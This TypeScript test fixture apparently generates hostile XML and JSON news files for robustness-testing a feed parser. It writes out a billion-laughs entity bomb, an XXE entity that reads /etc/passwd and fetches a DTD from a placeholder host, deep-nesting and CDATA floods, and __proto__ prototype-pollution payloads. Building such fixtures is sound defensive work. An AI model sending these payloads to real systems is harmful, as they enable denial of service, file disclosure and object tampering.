import { damaged, hostileText, sentence, type HostileFile } from './a-hostile-file.ts'

const newsMl = 'xmlns="http://iptc.org/std/nar/2006-10-01/"'
/** How each kind of news in XML opens and closes around its text. */
const roots: readonly (readonly [string, string, string])[] = [
  [
    'a feed in RSS',
    '<rss version="2.0"><channel><item><title>Ferry</title><description>',
    '</description></item></channel></rss>',
  ],
  [
    'a feed in Atom',
    '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>Ferry</title><content>',
    '</content></entry></feed>',
  ],
  [
    'a feed in RDF',
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><item><title>Ferry</title><description>',
    '</description></item></rdf:RDF>',
  ],
  [
    'an article in NITF',
    '<nitf><body><body.head><hedline><hl1>Ferry</hl1></hedline></body.head><body.content><p>',
    '</p></body.content></body></nitf>',
  ],
  [
    'an item in NewsML-G2',
    `<newsItem ${newsMl}><contentSet><inlineXML><html xmlns="http://www.w3.org/1999/xhtml"><body><p>`,
    '</p></body></html></inlineXML></contentSet></newsItem>',
  ],
  [
    'a message in NewsML-G2',
    `<newsMessage ${newsMl}><itemSet><newsItem><contentSet><inlineData>`,
    '</inlineData></newsItem></itemSet></newsMessage>',
  ],
  [
    'an item in NewsML 1',
    '<NewsML><NewsItem><NewsComponent><ContentItem><DataContent>',
    '</DataContent></ContentItem></NewsComponent></NewsItem></NewsML>',
  ],
]
const laughs = `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(50)}">${[...'bcdefgh'].map((name, at) => `<!ENTITY ${name} "${`&${'abcdefgh'.charAt(at)};`.repeat(10)}">`).join('')}]>`
const outside =
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://post.example/b.dtd">%b;]>'

function inEach([kind, open, close]: readonly [string, string, string]): readonly HostileFile[] {
  const whole = (inside: string, before = '') =>
    `<?xml version="1.0"?>${before}${open}${inside}${close}`
  const text = (does: string, inside: string, before = '') =>
    hostileText(`${kind} ${does}`, 'a.xml', whole(inside, before))
  return [
    text('of names that unfold', '&h;', laughs),
    text(
      'of one long name said 20,000 times',
      '&a;'.repeat(20_000),
      `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(20_000)}">]>`,
    ),
    text('that asks for other files', `&a;${sentence}`, outside),
    text('of 100,000 nested elements', '<b>'.repeat(100_000)),
    text(
      'of 5,000 attributes',
      `<b ${Array.from({ length: 5000 }, (_, at) => `a${String(at)}="b"`).join(' ')}>${sentence}</b>`,
    ),
    text('of bare marks', '& < '.repeat(50_000)),
    text('of control letters', `\u0001\u0002${sentence}`),
    ...damaged(kind, 'a.xml', new TextEncoder().encode(whole(sentence.repeat(20)))),
  ]
}

const item =
  '<item><title>Ferry</title><guid>1</guid><description>The ferry has stopped.</description></item>'
const ninjs = (more: string) =>
  `{"uri":"urn:a","type":"text","versioncreated":"2024-01-01T00:00:00Z","headline":"Ferry","body_html":"<p>The ferry has stopped.</p>"${more}}`
const jsonFeed = (items: string) =>
  `{"version":"https://jsonfeed.org/version/1.1","title":"Post","items":[${items}]}`
const jsonItem = '{"id":"1","title":"Ferry","content_html":"<p>The ferry has stopped.</p>"}'

/** News in XML and JSON made to hurt. */
export const hostileNews: readonly HostileFile[] = [
  ...roots.flatMap(inEach),
  hostileText(
    'a feed of 2,000 items with one name',
    'a.xml',
    `<rss version="2.0"><channel>${item.repeat(2000)}</channel></rss>`,
  ),
  hostileText(
    'a feed of CDATA that never closes',
    'a.xml',
    `<rss><channel><item><description>${'<![CDATA['.repeat(100_000)}`,
  ),
  hostileText(
    'an agency item nested 100,000 deep',
    'a.json',
    ninjs(`,"associations":${'{"a":'.repeat(100_000)}`),
  ),
  hostileText(
    'an agency item nested 3,000 deep, and closed',
    'a.json',
    ninjs(`,"associations":${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`),
  ),
  hostileText(
    'an agency item that names __proto__',
    'a.json',
    ninjs(',"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}'),
  ),
  hostileText(
    'a JSON feed that names __proto__',
    'a.json',
    jsonFeed(jsonItem.replace('{', '{"__proto__":{"polluted":1},')),
  ),
  hostileText(
    'a JSON feed of 2,000 items',
    'a.json',
    jsonFeed(Array.from({ length: 2000 }, () => jsonItem).join(',')),
  ),
  hostileText('a JSON feed nested 100,000 deep', 'a.json', jsonFeed('['.repeat(100_000))),
  ...damaged('a JSON feed', 'a.json', new TextEncoder().encode(jsonFeed(jsonItem))),
]
